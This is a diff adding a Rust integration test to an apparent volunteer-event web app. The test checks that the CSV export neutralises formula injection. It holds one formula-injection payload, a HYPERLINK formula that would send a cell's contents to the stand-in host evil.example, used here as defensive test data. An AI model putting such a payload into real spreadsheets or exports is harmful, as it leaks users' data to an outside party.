@@ -16,7 +16,10 @@ use reqwest::StatusCode;
 use serde_json::{Value, json};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
-use util::{ADMIN, PASSWORD, TestApp, city_with_admin, join};
+use util::{
+    ADMIN, PASSWORD, TestApp, change, city_with_admin, join, mutation, now_ms, record,
+    subbotnik_values,
+};
 
 /// A device's key, as the web app keeps it.
 const PHONE_KEY: &str = "5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e5a1e";
@@ -771,4 +774,43 @@ async fn a_chair_issues_a_reset_code_for_their_volunteer_only_and_it_works_once(
         .await;
     }
     assert_eq!(last, StatusCode::TOO_MANY_REQUESTS);
+}
+
+#[tokio::test]
+async fn a_formula_a_volunteer_typed_is_exported_as_text() {
+    let (mut app, admin, _temp) = city().await;
+    app.token = Some(admin.clone());
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Двор\")";
+    let mut values = subbotnik_values(7);
+    values.insert("site_address".to_owned(), json!(formula));
+    app.push_applied(&[mutation(
+        1,
+        1,
+        change(record(1), 1, now_ms() - 1_000, 0, values, Some(false)),
+    )])
+    .await;
+    let response = app
+        .client
+        .get(app.url("/api/v1/export/activities.csv?from=2024-01-01&to=2024-12-31"))
+        .bearer_auth(&admin)
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(response.status(), StatusCode::OK);
+    let text = response.text().await.expect("a file");
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let cells: Vec<String> = reader
+        .records()
+        .flat_map(|row| {
+            row.expect("a row")
+                .iter()
+                .map(str::to_owned)
+                .collect::<Vec<_>>()
+        })
+        .collect();
+    assert!(cells.contains(&format!("'{formula}")), "{cells:?}");
+    assert!(
+        !cells.iter().any(|c| c.starts_with(['=', '+', '@'])),
+        "{cells:?}"
+    );
 }
